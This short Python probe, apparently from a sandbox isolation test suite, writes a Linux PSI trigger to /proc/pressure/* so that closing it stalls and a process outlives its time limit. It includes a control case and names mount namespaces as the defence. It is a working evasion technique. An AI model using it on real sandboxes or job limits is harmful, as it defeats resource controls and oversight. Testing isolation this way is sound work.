"""Have the kernel watch the machine's pressure, and take long to end.

Technique: Since Linux 6.5 anybody may write a trigger to /proc/pressure/cpu, io or memory: the kernel then watches
    the whole machine for it. To close one takes a grace period of the kernel's, some 15 ms, during which the process
    cannot be ended: with a thousand of them a program goes on for many seconds after its time is up.
Success: a trigger is accepted.
Stopped by: mount_namespace
"""

import time


def attack():
    for name in ("memory", "io", "cpu"):
        fd = answer(os.open, f"/proc/pressure/{name}", os.O_RDWR | os.O_NONBLOCK)
        if isinstance(fd, int) and answer(os.write, fd, b"some 1000000 2000000\0") == 21:
            begin = time.perf_counter()
            os.close(fd)
            return f"a trigger on {name} pressure, closed in {time.perf_counter() - begin:.3f} s"
    return None


def twin():
    """A program with hundreds of descriptors ends at once."""
    opened = [os.memfd_create("x") for _ in range(300)]
    begin = time.perf_counter()
    for fd in opened:
        os.close(fd)
    assert time.perf_counter() - begin < 2
